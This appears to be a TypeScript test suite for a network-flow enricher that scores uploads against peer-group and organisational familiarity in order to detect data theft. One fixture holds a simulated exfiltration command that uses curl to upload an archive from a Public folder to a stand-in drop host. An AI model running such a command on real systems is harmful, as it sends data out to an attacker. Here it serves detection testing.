import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { Enricher } from '../../enrich/enricher.ts';
import type { JoinedBody } from '../../enrich/join/facts.ts';
import { rescore } from '../../enrich/score/backtest.ts';
import { Sightings } from '../../enrich/score/sightings.ts';
import type { Verdict } from '../../enrich/score/verdict.ts';
import { defaultSettings, type Settings } from '../../enrich/settings.ts';
import { openMemory } from '../../enrich/store/memory.ts';
import type { Observation } from '../../enrich/store/store.ts';
import type { FlowRecord } from '../../sensor/record/flow-record.ts';
import {
  CURL,
  DROP,
  type Item,
  NEW,
  OUTSIDER,
  PEERS,
  PLACE,
  upload,
  usual,
  work,
  workToday,
} from '../join/peer-world.ts';
import { DAY, MORNING } from '../join/world.ts';

vi.setConfig({ testTimeout: 60_000 });

const plain = defaultSettings();
const grouped: Settings = {
  ...plain,
  peer_groups: [
    { name: 'guests', hosts: ['ws19'], users: [] },
    { name: 'office', hosts: ['ws1*'], users: [] },
  ],
};

interface Seen {
  /** Of the last episode of each host, by its id. */
  readonly verdicts: ReadonlyMap<string, Verdict>;
  readonly alerts: readonly string[];
  readonly observed: readonly Observation[];
}

async function see(steps: readonly (readonly Item[])[], settings = grouped): Promise<Seen> {
  const observed: Observation[] = [];
  const memory = openMemory();
  const store = new Proxy(memory, {
    get: (target, name: keyof typeof memory) => {
      const method = target[name] as (...asked: unknown[]) => unknown;
      return (...asked: unknown[]) => {
        if (name === 'observe') observed.push(...(asked[0] as Observation[]));
        return method.apply(target, asked);
      };
    },
  });
  const enricher = new Enricher(store, settings);
  for (const items of steps) {
    for (const item of items) await ('kind' in item ? enricher.putEvents([item]) : enricher.putFlows([item]));
    await enricher.settle();
  }
  const scored = [...(await rescore(store, settings)).values()];
  scored.sort((a, b) => a.episode.flows[0]!.start - b.episode.flows[0]!.start);
  return {
    verdicts: new Map(scored.map(({ episode, verdict }) => [episode.host.id, verdict])),
    alerts: (await store.listAlerts({ limit: 100 })).map((alert) => JSON.stringify(alert)).sort(),
    observed,
  };
}
const noveltyOf = ({ verdicts }: Seen, n = NEW) => verdicts.get(`ws1${n}`)!.terms.find(({ group }) => group === 'N')!;

/** Days since 1970. */
const TODAY = Math.floor(MORNING / DAY);
const distinct = (all: readonly Observation[], of: (one: Observation) => string): number => new Set(all.map(of)).size;

const peers = (days = 28): Item[] => PEERS.flatMap((n) => work(n, days));
/** With a program that others know, to a place of others. The bytes match no archive. */
const theft = (n = NEW): Item[] =>
  upload(n, {
    ...{ place: DROP, image: CURL, sent: 2_500_000 },
    process: { commandLine: 'curl -k -F "file=@C:\\Users\\Public\\d0.7z" https://drop.example.com/' },
  });
const elsewhere = usual(OUTSIDER, 5, DROP, CURL);

describe('what is F3 to a new host', () => {
  const maturity = (days: number): number => 1 - Math.exp(-days / 7);
  /** Of the new host's days of mail, and what hosts of no group or few peers did with the program before. */
  const novelty = async (own: number, others: readonly Item[], settings = plain) =>
    noveltyOf(await see([[...peers(), ...others, ...work(NEW, own), ...upload(NEW)]], settings));

  it.each([0, 2, 4])('weighs the less the newer the host is, when others established it: %d days', async (days) => {
    const { name, db, detail } = await novelty(days, usual(OUTSIDER, 5));
    const m = maturity(days);
    expect([name, db]).toEqual(['familiarity_F3', expect.closeTo(m * m * 3 - (1 - m) * 8, 6)]);
    expect(detail).toContain('to a new host all is new, and elsewhere it is established');
  });

  it('weighs as ever when nobody has established it, and when the host is not new', async () => {
    expect((await novelty(2, usual(OUTSIDER, 2))).db).toBeCloseTo(3 * maturity(2), 6);
    expect((await novelty(6, usual(OUTSIDER, 5))).db).toBeGreaterThan(0);
  });

  it('weighs as ever when peers who can judge do nothing of it, and less when one does', async () => {
    expect((await novelty(0, usual(OUTSIDER, 5), grouped)).db).toBeGreaterThan(0);
    expect((await novelty(0, usual(1, 5), grouped)).db).toBe(-8);
  });

  it('is not made usual by thefts', async () => {
    const stolen = [0, 1, 2, 3].flatMap((day) => upload(1, { day: day - 5 }));
    const { name, db } = await novelty(0, stolen);
    expect([name, db]).not.toEqual(['familiarity_F3', -8]);
  });
});

describe('a new host in a peer group', () => {
  it('is judged by the work of its peers', async () => {
    const items = [...peers(), ...PEERS.flatMap((n) => [...usual(n), ...workToday(n)]), ...upload(NEW)];
    const alone = await see([items], plain);
    expect(alone.alerts).toHaveLength(1);
    expect(noveltyOf(alone)).toMatchObject({ name: 'familiarity_F3', db: -8 });
    const among = await see([items]);
    expect(among.alerts).toEqual([]);
    expect(noveltyOf(among)).toMatchObject({ name: 'familiarity_F5', db: -15 });
    expect(noveltyOf(among).detail).toBe(
      'F5: established work of its peers: several of them meet it regularly with this program (judged by its peer group office: 6 hosts, 28 days, maturity 0.98)',
    );
  });

  it('shows what no peer has met by the novelty and the history of its peers', async () => {
    const items = [...peers(), ...PEERS.flatMap((n) => usual(n)), ...elsewhere, ...theft()];
    const alone = await see([items], plain);
    expect(alone.alerts).toEqual([]);
    expect(alone.verdicts.get('ws17')?.gate.passed).toBe(false);
    const among = await see([items]);
    expect(among.alerts).toHaveLength(1);
    // What its peers met was seldom new to them; all of its own would be.
    const met = among.observed.filter(({ scope, day }) => scope === 'peers:office' && day < TODAY);
    const rate = distinct(met, ({ destination }) => destination) / distinct(met, (o) => `${o.day} ${o.destination}`);
    expect(rate).toBeLessThan(0.1);
    expect(noveltyOf(among)).toMatchObject({ name: 'familiarity_F3' });
    expect(noveltyOf(among).db).toBeCloseTo((3 + 10 * Math.log10(0.05 / rate)) * (1 - Math.exp(-4)), 6);
    expect(noveltyOf(among).detail).toContain(
      'no work of its peers (judged by its peer group office: 6 hosts, 28 days',
    );
  });

  it('says of what the organisation has not met whose novelty it is compared with', async () => {
    const { detail } = noveltyOf(await see([[...peers(), ...upload(NEW, { place: DROP })]]));
    expect(detail).toContain('(28 days of history, maturity 0.98; judged by its peer group office: 6 hosts, 28 days)');
  });

  it('finds nothing more unfamiliar for every peer that has met it', async () => {
    let last = Number.POSITIVE_INFINITY;
    for (let count = 0; count <= PEERS.length; count++) {
      const users = PEERS.slice(0, count).flatMap((n) => usual(n));
      const { db } = noveltyOf(await see([[...peers(), ...elsewhere, ...usual(OUTSIDER), ...users, ...upload(NEW)]]));
      expect(db).toBeLessThanOrEqual(last + 0.5); // its peers meet less that is new with every one of them
      if (count === 0) expect(db).toBeGreaterThan(0);
      last = db;
    }
    expect(last).toBe(-15);
  });

  it('has an upload that runs to a place of its peers explained by them', async () => {
    const running = upload(NEW, { sent: 3_000_000 }).map((item) =>
      'kind' in item ? item : { ...item, event: { ...item.event, action: 'flow_update' as const } },
    );
    const items = [...peers(), ...PEERS.flatMap((n) => usual(n)), ...running];
    const underWay = ({ verdicts }: Seen) =>
      verdicts.get('ws17')!.terms.find(({ name }) => name === 'byte_balance')!.db;
    expect(underWay(await see([items]))).toBeLessThan(underWay(await see([items], plain)));
  });

  it('is as it was when its group is too small, too young, or another’s', async () => {
    const few = [...PEERS.slice(0, 4).flatMap((n) => work(n)), ...elsewhere, ...theft()];
    const young = [...work(OUTSIDER), ...peers(4), ...elsewhere, ...theft()];
    const strangers = [...peers(), ...elsewhere, ...theft(OUTSIDER)];
    for (const items of [few, young, strangers])
      expect((await see([items])).verdicts).toEqual((await see([items], plain)).verdicts);
  });
});

describe('a theft at one host', () => {
  it('makes its destination no work of its peers, nor do three of them within two weeks', async () => {
    const robbed = [1, 2, 3, 4].flatMap((n) => upload(n, { day: -n, place: DROP, image: CURL }));
    const seen = await see([[...peers(), ...elsewhere, ...robbed, ...theft()]]);
    expect(seen.alerts.length).toBeGreaterThanOrEqual(4);
    expect(noveltyOf(seen).name).toBe('familiarity_F3');
    const known = usual(OUTSIDER, 5, PLACE, CURL);
    const again = [-3, -2, -1].flatMap((day) => upload(1, { day, place: PLACE, image: CURL, sent: 900_000 }));
    const quiet = upload(NEW, { image: CURL });
    expect(noveltyOf(await see([[...peers(), ...known, ...again, ...quiet]])).name).toBe('familiarity_F3');
  });
});

describe('a new host', () => {
  it('does not vouch for itself beside two peers', async () => {
    // Each of these is a cell of its own.
    const count = async (users: readonly number[]) => {
      const own = [...work(NEW, 2), ...usual(NEW, 2), ...upload(NEW)];
      return noveltyOf(await see([[...peers(), ...own, ...users.flatMap((n) => usual(n))]])).name;
    };
    expect(await count([1, 2, 3])).toBe('familiarity_F5');
    expect(await count([1, 2])).toBe('familiarity_F4');
  });

  it('is seen again when its name, and so its group, comes to be known', () => {
    const sightings = new Sightings();
    const record = usual(NEW, 1).find((item) => !('kind' in item)) as FlowRecord;
    const body = (name?: string): JoinedBody => ({
      record,
      join: {
        method: 'tuple',
        probability: 1,
        candidates: [],
        events: [],
        host: { id: 'ws17', ...(name ? { name } : {}) },
      },
    });
    const scopes = (name?: string): string[] => {
      const { observations, key } = sightings.of(undefined, body(name), grouped);
      sightings.written([key]);
      return observations.map(({ scope }) => scope).filter((scope) => scope.startsWith('peer'));
    };
    expect(scopes()).toEqual([]);
    expect(scopes('WS17')).toContain('peer-hosts:office');
    expect(scopes('WS17')).toEqual([]);
  });
});

describe('a host with a history of its own', () => {
  it('is scored as without groups, bit for bit', async () => {
    const items = [
      ...[...peers(), ...PEERS.flatMap((n) => usual(n)), ...elsewhere, ...work(NEW, 5)],
      ...[...upload(NEW), ...theft(2), ...upload(OUTSIDER)],
    ];
    const alone = await see([items], plain);
    const among = await see([items]);
    expect(among.verdicts).toEqual(alone.verdicts);
    expect(among.alerts).toEqual(alone.alerts);
    expect(among.alerts.length).toBeGreaterThan(0);
    const fewer = items.filter((item) => !JSON.stringify(item).includes('"@timestamp":"2026-02-25'));
    expect((await see([fewer])).verdicts).not.toEqual((await see([fewer], plain)).verdicts);
  });
});

describe('what is kept of peers', () => {
  it('is nothing without a group', async () => {
    const items = [...peers(3), ...upload(NEW)];
    const scopes = async (settings: Settings) =>
      (await see([items], settings)).observed.filter(({ scope }) => scope.startsWith('peer')).map(({ scope }) => scope);
    expect(await scopes(plain)).toEqual([]);
    expect(new Set((await scopes(grouped)).map((scope) => scope.split(':')[0]))).toEqual(
      new Set(['peers', 'peer-hosts', 'peer-identity']),
    );
  });
});

describe('alerts of hosts in groups', () => {
  const world = [
    ...PEERS.slice(0, 5).flatMap((n) => [...work(n, 7), ...usual(n, 3)]),
    ...[...usual(OUTSIDER, 3, DROP, CURL), ...work(NEW, 2)],
    ...[...upload(1, { day: -1, place: DROP, image: CURL }), ...theft(), ...upload(NEW, { day: 1 })],
  ];

  it('are the same in any order, in any number of steps, and when everything comes twice', async () => {
    const whole = await see([world]);
    expect(whole.alerts.length).toBeGreaterThan(0);
    expect([...whole.verdicts.values()].some(({ terms }) => terms[0]!.detail.includes('peer group office'))).toBe(true);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.nat({ max: 3 }), { minLength: world.length, maxLength: world.length }),
        fc.boolean(),
        async (places, twice) => {
          const steps = [0, 1, 2, 3].map((step) => world.filter((_, i) => places[i] === step));
          const { alerts, verdicts } = await see(twice ? [...steps, ...steps.toReversed()] : steps);
          expect(alerts).toEqual(whole.alerts);
          expect(verdicts).toEqual(whole.verdicts);
        },
      ),
      { numRuns: 10 },
    );
  });

  it('are judged again when what their peers do comes days late', async () => {
    const own = [...work(NEW, 1), ...upload(NEW)];
    const others = PEERS.flatMap((n) => [...work(n), ...usual(n)]);
    const late = await see([own, others]);
    expect(late.alerts).toEqual((await see([[...own, ...others]])).alerts);
    expect((await see([own, work(1)])).alerts).not.toEqual(late.alerts);
    // Nothing of this is new to the organisation: only the group grows.
    const first = [...work(OUTSIDER), ...elsewhere, ...theft()];
    expect((await see([first])).alerts).toEqual([]);
    expect((await see([first, peers()])).alerts).toHaveLength(1);
  });

  it('are judged again when one of the peers that use the place turns out to have been robbed', async () => {
    const robbed = [1, 2, 3, 4].map((n) => upload(n, { day: -n, place: DROP, image: CURL }));
    // Without what was packed these are uploads like others.
    const isPacking = (item: Item) => 'kind' in item && JSON.stringify(item).includes('7z.exe');
    const sent = robbed.flat().filter((item) => !isPacking(item));
    const packed = robbed.flat().filter(isPacking);
    const rest = [...peers(), ...elsewhere, ...theft()];
    const before = await see([[...rest, ...sent]]);
    expect(noveltyOf(before).name).toBe('familiarity_F5');
    const after = await see([[...rest, ...sent], packed]);
    expect(after.alerts).toEqual((await see([[...rest, ...sent, ...packed]])).alerts);
    expect(after.alerts.length).toBeGreaterThan(before.alerts.length);
    expect(noveltyOf(after).name).toBe('familiarity_F3');
  });
});
